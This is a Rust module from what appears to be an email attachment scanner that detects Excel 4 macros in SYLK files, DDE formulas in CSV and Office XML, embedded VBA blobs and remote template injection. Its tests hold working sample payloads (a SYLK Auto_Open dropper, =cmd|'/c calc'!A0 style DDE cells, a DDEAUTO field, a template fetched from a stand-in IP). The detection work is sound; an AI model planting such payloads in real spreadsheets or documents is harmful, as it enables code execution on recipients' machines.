//! Text files Office opens as documents: SYLK (Excel 4 macros and their `Auto_Open` name
//! in plain text), CSV and other spreadsheet text whose cells hold DDE formulas
//! (`=cmd|'/c calc'!A0`), and Word and Excel documents saved whole as XML (the 2003
//! formats, and Word 2007's "Flat OPC" with its relationships inline). None is a
//! compound file or a zip, so the other readers never see them, and Excel opens SYLK and
//! CSV under a `.xls` name too.

use super::{parts, DocumentBudget, Facts};
use std::io::Read;

/// Projects and objects embedded as base64 read per XML document at most (Word writes
/// one `editdata.mso`); images do not count.
const MAX_BLOBS: usize = 16;
/// Bytes at the head of an ActiveMime blob searched for its zlib stream.
const ACTIVE_MIME_SCAN: usize = 4096;
/// Base64 as Word writes it and readers take it: padding optional, trailing bits allowed.
const LENIENT_BASE64: base64::engine::GeneralPurpose = base64::engine::GeneralPurpose::new(
    &base64::alphabet::STANDARD,
    base64::engine::GeneralPurposeConfig::new()
        .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);
/// Bytes looked at after a `|` for the `'…'!` of a DDE reference: a topic is short.
const MAX_CELL: usize = 1024;

/// Excel 4 macro functions (only a macro sheet calls them; a formula on a worksheet
/// cannot), as written in SYLK's `E` field: what droppers use to run, load and write.
const MACRO_FUNCTIONS: &[&str] = &[
    "EXEC(",
    "CALL(",
    "REGISTER(",
    "RUN(",
    "HALT(",
    "ALERT(",
    "FOPEN(",
    "FWRITE(",
    "FWRITELN(",
    "FORMULA(",
    "FORMULA.FILL(",
    "SET.VALUE(",
    "SET.NAME(",
    "GOTO(",
    "RETURN(",
    "ON.TIME(",
    "WORKBOOK.HIDE(",
    "FILES(",
];

/// Extensions Excel opens as spreadsheet text (`.xls` and its kin too: Excel opens the text
/// inside with a warning most readers click past).
const SHEET_EXTENSIONS: &[&str] = &[
    "csv", "tsv", "tab", "slk", "sylk", "dif", "prn", "xls", "xlt", "xla", "xlw",
];
/// Declared types of spreadsheet text.
const SHEET_TYPES: &[&str] = &[
    "text/csv",
    "text/x-csv",
    "text/comma-separated-values",
    "text/tab-separated-values",
    "application/csv",
    "application/x-csv",
    "application/vnd.ms-excel",
    "text/x-sylk",
    "application/x-sylk",
];

/// Reads an attachment (or an archive entry) as the text formats Office opens: SYLK and
/// 2003 XML by their content, whatever they are called; DDE formulas in files a name
/// (`exts`) or the declared type says are spreadsheets. Text with a byte-order mark (UTF-16
/// as Excel saves "Unicode text", or UTF-8) is read as its characters.
pub(super) fn read(
    exts: &[Option<String>],
    content_type: &str,
    data: &[u8],
    budget: &mut DocumentBudget,
) -> Facts {
    let text = crate::mail::charsets::decode_by_bom(data);
    let data = text.as_deref().map_or(data, str::as_bytes);
    if is_sylk(data) {
        return read_sylk(data);
    }
    if is_office_xml(data) {
        return read_office_xml(data, budget);
    }
    let named_sheet = exts
        .iter()
        .flatten()
        .any(|e| SHEET_EXTENSIONS.contains(&e.as_str()));
    let mut facts = Facts::default();
    if named_sheet || SHEET_TYPES.contains(&content_type) {
        facts.dde = has_dde_formula(data);
    }
    facts
}

/// Whether `data` is a SYLK file: Excel takes a file whose first record is `ID` (`ID;P…`,
/// or `ID` alone) for one, under any name (the reason a CSV whose first column is headed
/// "ID" will not open as CSV).
fn is_sylk(data: &[u8]) -> bool {
    data.starts_with(b"ID") && matches!(data.get(2), None | Some(b';' | b'\r' | b'\n'))
}

/// Whether `data` is a Word or Excel document saved as one XML file: markup whose
/// processing instruction Office opens it by, or the namespace of the 2003 formats,
/// appears anywhere (a comment in front does not push it out of sight).
fn is_office_xml(text: &[u8]) -> bool {
    let start = text.iter().position(|b| !b.is_ascii_whitespace());
    if start.and_then(|s| text.get(s)) != Some(&b'<') {
        return false;
    }
    [
        b"mso-application".as_slice(),
        b"urn:schemas-microsoft-com:office:spreadsheet",
        b"schemas.microsoft.com/office/word/2003/wordml",
        b"schemas.microsoft.com/office/2006/xmlPackage",
    ]
    .iter()
    .any(|marker| memchr::memmem::find(text, marker).is_some())
}

/// Reads a document saved as one XML file: fields, names and relationships as in the
/// parts of a zipped one ([`parts::read_xml`]; a Word 2007 document saved so, "Flat OPC",
/// carries its relationships inline), and each cell's formula (`ss:Formula`, in either
/// quote, with `>` or quotes inside) for DDE; and the VBA project a Word 2003 XML document
/// carries in a `binData` element (`editdata.mso`: an ActiveMime blob, base64, holding the
/// project's compound file deflated), read like a `.doc`'s.
fn read_office_xml(data: &[u8], budget: &mut DocumentBudget) -> Facts {
    let mut facts = parts::read_xml(data);
    facts.remote_object = parts::loads_from_network(data);
    let text = parts::readable_xml(data);
    facts.dde |= parts::elements(&text, "Cell").any(|tag| {
        formulas(tag).any(|formula| has_dde_formula(parts::decode_references(formula).as_bytes()))
    });
    let mut read = 0;
    for blob in embedded_blobs(&text) {
        match decode_blob(blob, &mut budget.inflated) {
            Blob::Other => continue,
            Blob::Unread => facts.uninspected = true,
            Blob::Compound(file) => facts.merge(super::probe_compound(&file, budget)),
        }
        read += 1;
        if read == MAX_BLOBS {
            // More projects than a document holds: what follows is not read.
            facts.uninspected = true;
            break;
        }
    }
    facts
}

/// The text of each `binData` (Word 2003) and `binaryData` (a Flat OPC part) element.
fn embedded_blobs(text: &str) -> impl Iterator<Item = &str> {
    parts::tags(text)
        .filter(|t| matches!(t.local, "binData" | "binaryData") && !t.tag.ends_with('/'))
        .map(|t| t.content)
}

/// What an embedded blob holds.
enum Blob {
    /// A compound file: a VBA project (Flat OPC's `vbaProject.bin` part, or inflated from
    /// Word 2003's ActiveMime `editdata.mso`), an OLE object.
    Compound(Vec<u8>),
    /// An ActiveMime blob whose project did not inflate within the message's allowance,
    /// or is broken.
    Unread,
    /// Anything else (an image).
    Other,
}

/// Decodes a blob (base64): a compound file as it is, or the zlib stream of an
/// ActiveMime blob inflated within `left` bytes (the message's allowance, lowered by what
/// was inflated). The stream starts where the header's offset field says (0x32 where
/// Office writes it), else at the first zlib header in the blob's first bytes.
fn decode_blob(text: &str, left: &mut u64) -> Blob {
    use base64::Engine;
    let letters = || text.bytes().filter(|b| !b.is_ascii_whitespace());
    // Only the header's worth is decoded before the blob is known (an image is not
    // copied).
    let head: Vec<u8> = letters().take(16).collect();
    let Ok(head) = LENIENT_BASE64.decode(&head[..head.len() - head.len() % 4]) else {
        return Blob::Other;
    };
    let active_mime = head.starts_with(b"ActiveMime");
    if !active_mime && !super::starts_as_compound_file(&head) {
        return Blob::Other;
    }
    let Ok(blob) = LENIENT_BASE64.decode(letters().collect::<Vec<u8>>()) else {
        return if active_mime {
            Blob::Unread
        } else {
            Blob::Other
        };
    };
    if !active_mime {
        return Blob::Compound(blob);
    }
    let declared = blob
        .get(0x1E..0x20)
        .map(|b| usize::from(u16::from_le_bytes([b[0], b[1]])) + 46);
    let scanned = blob.get(..ACTIVE_MIME_SCAN.min(blob.len())).and_then(|h| {
        h.windows(2)
            .position(|w| w[0] == 0x78 && matches!(w[1], 0x01 | 0x5E | 0x9C | 0xDA))
    });
    let mut tried: Vec<usize> = Vec::new();
    for start in [declared, Some(0x32), scanned].into_iter().flatten() {
        if tried.contains(&start) {
            continue;
        }
        tried.push(start);
        let Some(stream) = blob.get(start..) else {
            continue;
        };
        let mut inflated = Vec::new();
        let _ = flate2::read::ZlibDecoder::new(stream)
            .take(*left)
            .read_to_end(&mut inflated);
        *left -= inflated.len() as u64;
        if super::starts_as_compound_file(&inflated) {
            return Blob::Compound(inflated);
        }
    }
    Blob::Unread
}

/// The values of the `Formula` attributes (any prefix: `ss:Formula` on an unprefixed
/// `Cell`) of a start tag.
fn formulas(tag: &str) -> impl Iterator<Item = &str> {
    parts::attributes(tag)
        .filter(|(key, _)| key.rsplit(':').next() == Some("Formula"))
        .map(|(_, value)| value)
}

/// Reads a SYLK file's records: names (`NN;N<name>`), cell formulas (`C;…;E<formula>`, the
/// fields in any order) calling Excel 4 macro functions, DDE formulas. Linear in the size.
fn read_sylk(data: &[u8]) -> Facts {
    let mut facts = Facts::default();
    let mut auto_open = false;
    let mut formulas = false;
    for record in data.split(|&b| b == b'\n' || b == b'\r') {
        let mut fields = sylk_fields(record);
        match fields.next() {
            // `NN;NAuto_Open;ER1C1`: a defined name and what it refers to.
            Some(b"NN") => {
                auto_open |= fields.any(|field| {
                    field.first() == Some(&b'N') && starts_with_folded(&field[1..], b"auto_open")
                });
            }
            Some(b"C") => {
                for formula in fields.filter_map(|f| f.strip_prefix(b"E")) {
                    formulas = true;
                    facts.macros |= calls_a_macro_function(formula);
                    // SYLK writes a formula without its `=`.
                    let mut cell = b"=".to_vec();
                    cell.extend_from_slice(formula);
                    facts.dde |= has_dde_formula(&cell);
                }
            }
            _ => {}
        }
    }
    if auto_open && formulas {
        // Excel runs the cells the name points at when the file opens.
        facts.excel_4_runs_on_open();
    }
    facts.dde |= has_dde_formula(data);
    facts
}

/// The fields of a SYLK record: split at `;`, where `;;` is a semicolon inside a field.
fn sylk_fields(record: &[u8]) -> impl Iterator<Item = &[u8]> {
    let mut rest = Some(record);
    std::iter::from_fn(move || {
        let text = rest?;
        let mut at = 0;
        loop {
            match memchr::memchr(b';', &text[at..]) {
                Some(i) if text.get(at + i + 1) == Some(&b';') => at += i + 2,
                Some(i) => {
                    rest = Some(&text[at + i + 1..]);
                    return Some(&text[..at + i]);
                }
                None => {
                    rest = None;
                    return Some(text);
                }
            }
        }
    })
}

/// Whether a formula calls one of [`MACRO_FUNCTIONS`] (by its whole name: `ISFORMULA(` is
/// a worksheet function).
fn calls_a_macro_function(formula: &[u8]) -> bool {
    let formula = formula.to_ascii_uppercase();
    MACRO_FUNCTIONS.iter().any(|f| {
        memchr::memmem::find_iter(&formula, f.as_bytes()).any(|at| {
            at.checked_sub(1)
                .and_then(|p| formula.get(p))
                .is_none_or(|&c| !(c.is_ascii_alphanumeric() || c == b'.' || c == b'_'))
        })
    })
}

fn starts_with_folded(text: &[u8], prefix: &[u8]) -> bool {
    text.get(..prefix.len())
        .is_some_and(|head| head.eq_ignore_ascii_case(prefix))
}

/// Where the scan of spreadsheet text stands (see [`has_dde_formula`]).
#[derive(Clone, Copy, PartialEq, Eq)]
enum Cell {
    /// Before a cell's first character.
    Start,
    /// In a cell that is no formula.
    Text,
    /// In a formula.
    Formula,
}

/// Whether a cell holds a DDE formula, `=app|'topic'!item` (or `app|topic!item`): in a
/// formula (a cell starting with `=`, `+`, `-` or `@`, which Excel all reads as one), an
/// application name before a `|` outside the formula's strings, and the `!item` of the
/// reference after it. Spreadsheets have no other use for `|` in a formula, so ordinary
/// exports never match. One pass over CSV as Excel splits it: a quoted cell runs to its
/// closing quote (`""` is a quote inside), an unquoted one to a `,`, `;` or tab outside the
/// formula's parentheses (`=SUM(1,2)+cmd|…`), every cell to the end of its line; so a
/// phone number `+44 20 …` ends at its comma and the next cell is not part of it.
fn has_dde_formula(data: &[u8]) -> bool {
    let mut cell = Cell::Start;
    let mut quoted = false;
    let mut in_string = false;
    let mut depth = 0usize;
    let mut at = 0;
    while let Some(&b) = data.get(at) {
        at += 1;
        // A line ends every cell but a quoted one (CSV quotes line breaks).
        if (b == b'\n' || b == b'\r') && !quoted {
            cell = Cell::Start;
            continue;
        }
        match cell {
            Cell::Start => match b {
                // Excel drops blanks in front of a formula; a leading `'` makes the cell
                // text (how exports escape formulas).
                b' ' => {}
                b'"' => quoted = true,
                b',' | b';' | b'\t' => quoted = false,
                _ => {
                    let formula = matches!(b, b'=' | b'+' | b'-' | b'@');
                    cell = if formula { Cell::Formula } else { Cell::Text };
                    in_string = false;
                    depth = 0;
                }
            },
            Cell::Text if quoted => {
                if b == b'"' {
                    if data.get(at) == Some(&b'"') {
                        at += 1;
                    } else {
                        quoted = false;
                    }
                }
            }
            Cell::Text => {
                if matches!(b, b',' | b';' | b'\t') {
                    cell = Cell::Start;
                }
            }
            Cell::Formula => match b {
                b'"' if quoted => {
                    if data.get(at) == Some(&b'"') {
                        at += 1;
                        in_string = !in_string;
                    } else {
                        // The quoted cell ends; what follows up to a separator is junk.
                        quoted = false;
                        cell = Cell::Text;
                    }
                }
                b'"' => in_string = !in_string,
                _ if in_string => {}
                b'(' => depth += 1,
                b')' => depth = depth.saturating_sub(1),
                b',' | b';' | b'\t' if depth == 0 && !quoted => cell = Cell::Start,
                b'|' => {
                    let app = data
                        .get(at.wrapping_sub(2))
                        .is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'_' || c == b'.');
                    if app && references_a_topic(&data[at..]) {
                        return true;
                    }
                }
                _ => {}
            },
        }
    }
    false
}

/// Whether the text after a `|` is a DDE topic and item: `'topic'!item` (any text in the
/// quotes, `''` a quote inside, on one line) or `topic!item` (no blanks), after optional
/// blanks; the item starts with a letter, digit, `_`, `$` or a quote (`!A0`, `!''`). A
/// `|` ends a topic, so each scan stops at the next one (linear time).
fn references_a_topic(after: &[u8]) -> bool {
    let after = after.get(..MAX_CELL).unwrap_or(after);
    let start = after.iter().position(|&b| b != b' ').unwrap_or(after.len());
    let rest = &after[start..];
    let tail = if let Some(quoted) = rest.strip_prefix(b"'") {
        let mut at = 0;
        loop {
            match quoted.get(at) {
                Some(b'\'') if quoted.get(at + 1) == Some(&b'\'') => at += 2,
                Some(b'\'') => break &quoted[at + 1..],
                Some(b'\n' | b'\r' | b'|') | None => return false,
                Some(_) => at += 1,
            }
        }
    } else {
        let end = rest
            .iter()
            .position(|&b| !b.is_ascii_graphic() || matches!(b, b',' | b';' | b'"' | b'!' | b'|'))
            .unwrap_or(rest.len());
        if end == 0 {
            return false;
        }
        &rest[end..]
    };
    let tail = &tail[tail.iter().position(|&b| b != b' ').unwrap_or(tail.len())..];
    let Some(item) = tail.strip_prefix(b"!") else {
        return false;
    };
    item.first()
        .is_some_and(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$' | b'\''))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(exts: &[Option<String>], content_type: &str, data: &[u8]) -> Facts {
        super::read(exts, content_type, data, &mut DocumentBudget::default())
    }

    const SYLK_DROPPER: &[u8] = b"ID;PWXL;N;E\r\nP;PGeneral\r\nNN;NAuto_Open;ER1C1\r\n\
        C;Y1;X1;KFALSE;EEXEC(\"cmd /c calc\")\r\nC;Y2;KTRUE;EHALT()\r\nE\r\n";

    #[test]
    fn a_sylk_file_run_on_opening_is_an_excel_4_macro() {
        let facts = read(&[], "", SYLK_DROPPER);
        assert!(facts.autorun_macro(), "{facts:?}");
        // Without the name: macro functions, not run by themselves.
        let no_name = String::from_utf8_lossy(SYLK_DROPPER).replace("NN;NAuto_Open;ER1C1\r\n", "");
        let facts = read(&[], "", no_name.as_bytes());
        assert!(facts.macros && !facts.runs_on_open, "{facts:?}");
        // A plain SYLK export with formulas: nothing.
        let export = b"ID;PWXL;N;E\r\nC;Y1;X1;K2\r\nC;Y2;X1;K4;ESUM(R[-1]C*2)\r\nE\r\n";
        assert_eq!(read(&[], "", export), Facts::default());
        // `ISFORMULA(` is a worksheet function, not `FORMULA(`.
        let check = b"ID;PWXL;N;E\r\nC;Y1;X1;EISFORMULA(R1C2)\r\nE\r\n";
        assert_eq!(read(&[], "", check), Facts::default());
    }

    #[test]
    fn sylk_is_read_as_excel_reads_it() {
        let body = "NN;NAuto_Open;ER1C1\r\nC;Y1;X1;EEXEC(\"calc\")\r\nC;Y2;EHALT()\r\nE\r\n";
        for text in [
            // `ID` without `P`, or alone on its line.
            format!("ID;N;E\r\n{body}"),
            format!("ID\r\n{body}"),
            // The formula field first, or after an escaped semicolon.
            "ID;PWXL\r\nNN;NAuto_Open;ER1C1\r\nC;EEXEC(\"calc\");Y1;X1\r\n".to_string(),
            "ID;PWXL\r\nNN;NAuto_Open;ER1C1\r\nC;K\"a;;b\";EEXEC(\"calc\")\r\n".to_string(),
            // A megabyte of empty records in front.
            format!("ID;PWXL\r\n{}{body}", "\r\n".repeat(500_001)),
        ] {
            assert!(read(&[], "", text.as_bytes()).autorun_macro(), "{text:.40}");
        }
        // A DDE formula, which SYLK writes without its `=`.
        let dde = b"ID;PWXL\r\nC;X1;Y1;K0;ECMD|' /C CALC'!A0\r\nE\r\n";
        assert!(read(&[], "", dde).dde);
        // A CSV headed `IDENT` is no SYLK.
        assert!(!is_sylk(b"IDENT,name\r\n"));
    }

    #[test]
    fn dde_formulas_in_spreadsheet_text_are_found() {
        let csv = [Some("csv".to_string())];
        for cell in [
            "=cmd|'/k \\..\\..\\..\\Windows\\System32\\calc.exe'!A0",
            "name,total\r\nalice,\"=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''\"",
            "a;b;+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "x\t-2+3+cmd|'/c powershell'!A1",
            "=cmd|calc!A0",
            "=SUM(1,2)+cmd|' /C calc'!A0",
            // Strings, `>` and doubled quotes inside the formula.
            "=\"\"&cmd|'/c calc'!A0",
            "\"=\"\"x\"\"&cmd|'/c calc'!A0\"",
            "=IF(1>0,cmd|'/c calc'!A0)",
            "=cmd|'/c echo ''x''&calc'!A0",
            // After a quoted cell that ends the way CSV cells end.
            "\"=1\",=cmd|'/c calc'!A0",
            "\"a, b\",=cmd|'/c calc'!A0",
            // A byte-order mark in front; a line break inside a quoted formula.
            "\u{feff}=cmd|'/c calc'!A0",
            "\"=1+\ncmd|'/c calc'!A0\"",
        ] {
            assert!(read(&csv, "", cell.as_bytes()).dde, "{cell}");
            assert!(read(&[], "text/csv", cell.as_bytes()).dde, "{cell}");
            // Only where Excel opens it as a sheet: a note in a text file is not flagged.
            assert!(!read(&[Some("txt".to_string())], "text/plain", cell.as_bytes()).dde);
        }
        for ordinary in [
            "id,cmd,result\r\n1,ls | wc -l,3\r\n",
            "=A1|B1",
            "shell: echo 'x' | grep '!'\r\n",
            "=SUM(A1:A3),\"a|'b'!\"",
            "note,\"pipe | 'quoted'!\"",
            // A negative amount, a phone number, a handle: cells that end at their comma.
            "-12.50,REFUND|ADJ!",
            "+44 20 7946 0958,Call back|urgent!",
            "@jane,loved it|great!",
            "id\t-\tstatus|done!\r\n",
            // A `|` inside a formula's string.
            "=\"cmd|'x'!A0\"",
            // A formula escaped by a leading apostrophe, as exports do: text.
            "'=cmd|'/c calc'!A0",
        ] {
            assert!(!read(&csv, "", ordinary.as_bytes()).dde, "{ordinary}");
        }
    }

    #[test]
    fn office_2003_xml_documents_are_read_whatever_their_name() {
        let sheet = b"<?xml version=\"1.0\"?>\r\n<?mso-application progid=\"Excel.Sheet\"?>\r\n\
            <Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" \
            xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet><Table><Row>\
            <Cell ss:Formula=\"=cmd|&apos;/c calc.exe&apos;!A1\"><Data ss:Type=\"Number\">0</Data>\
            </Cell></Row></Table></Worksheet></Workbook>";
        assert!(read(&[Some("xls".to_string())], "", sheet).dde);
        assert!(read(&[], "application/octet-stream", sheet).dde);
        let word = b"\xEF\xBB\xBF<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>\
            <w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:body>\
            <w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r>\
            <w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:wordDocument>";
        assert!(read(&[Some("doc".to_string())], "", word).dde);
        // Word 2007 as one XML file: its relationships inline, an injected template.
        let flat_opc = b"<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>\
            <pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">\
            <pkg:part pkg:name=\"/word/_rels/settings.xml.rels\"><pkg:xmlData><Relationships>\
            <Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" \
            Target=\"http://198.51.100.7/invoice.dotm\" TargetMode=\"External\"/></Relationships>\
            </pkg:xmlData></pkg:part></pkg:package>";
        assert!(read(&[Some("xml".to_string())], "", flat_opc).remote_object);
        // The formula in single quotes, with `>` in it, no declaration, a comment in front.
        let quoted =
            b"<!-- padding --><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" \
            xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Table><Row>\
            <Cell ss:Formula='=IF(1>0,cmd|&apos;/c calc&apos;!A1)'/></Row></Table></Workbook>";
        assert!(read(&[], "", quoted).dde);
        // A decoy attribute whose value says `Formula="` in front of the real one.
        let decoy =
            b"<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"><Table><Row>\
            <Cell o:Note='Formula=\"' ss:Formula=\"=cmd|'/c calc'!A1\"/></Row></Table></Workbook>";
        assert!(read(&[], "", decoy).dde);
        // UTF-16 spreadsheet text, as Excel saves "Unicode text".
        let mut utf16 = vec![0xFF, 0xFE];
        utf16.extend(
            "a\t=cmd|'/c calc'!A0\r\n"
                .encode_utf16()
                .flat_map(u16::to_le_bytes),
        );
        assert!(read(&[Some("csv".to_string())], "", &utf16).dde);
        // Other XML is not opened by Office: nothing.
        let other = b"<?xml version=\"1.0\"?><feed><f>=cmd|'/c calc'!A1</f></feed>";
        assert!(!read(&[], "", other).dde);
    }

    #[test]
    fn files_of_pipes_are_read_in_linear_time() {
        let csv = [Some("csv".to_string())];
        let mut data = b"=".to_vec();
        data.extend(std::iter::repeat_n(b'|', 2_000_000));
        assert!(!read(&csv, "", &data).dde);
        let mut data = b"=".to_vec();
        data.extend(std::iter::repeat_n(b"a|".as_slice(), 1_000_000).flatten());
        assert!(!read(&csv, "", &data).dde);
        let mut data = b"=".to_vec();
        data.extend(std::iter::repeat_n(b"a|'".as_slice(), 1_000_000).flatten());
        assert!(!read(&csv, "", &data).dde);
        let mut data = b"=".to_vec();
        data.extend(std::iter::repeat_n(b"a|''".as_slice(), 1_000_000).flatten());
        assert!(!read(&csv, "", &data).dde);
    }
}
